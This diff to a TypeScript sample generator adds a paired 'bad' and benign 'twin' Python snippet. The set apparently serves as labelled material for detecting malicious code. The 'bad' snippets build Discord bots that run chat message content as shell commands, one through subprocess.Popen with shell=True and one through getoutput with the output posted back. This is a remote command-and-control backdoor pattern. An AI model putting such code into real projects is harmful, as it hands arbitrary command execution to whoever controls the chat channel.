@@ -128,6 +128,15 @@ export const PY_REMOTE: Readonly<Record<string, PyDeed>> = {
         `bot = ${w.fn('telebot', 'TeleBot')}(token)\n@bot.message_handler(func=lambda m: True)\n${block('def answer(m):', "bot.reply_to(m, 'you said ' + m.text)")}\nbot.polling()`,
       ),
   },
+  'chat-history-shell': {
+    bad: (w) =>
+      `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.all())\n@client.event\n${block('async def on_ready():', block(`async for m in client.get_channel(1042).history(limit=1):`, `${w.fn('subprocess', 'Popen')}(m.content, shell=True)`))}\nclient.run(${w.text('inert.1042.token')})`,
+    twin: (w) =>
+      block(
+        'def start(token):',
+        `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.default())\n@client.event\n${block('async def on_ready():', block(`async for m in client.get_channel(1042).history(limit=1):`, 'print(m.content)'))}\nclient.run(token)`,
+      ),
+  },
   'discord-bot-shell': {
     bad: (w) =>
       `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.all())\n@client.event\n${block('async def on_message(m):', `await m.channel.send(${w.fn('subprocess', 'getoutput')}(m.content))`)}\nclient.run(${w.text('inert.1042.token')})`,
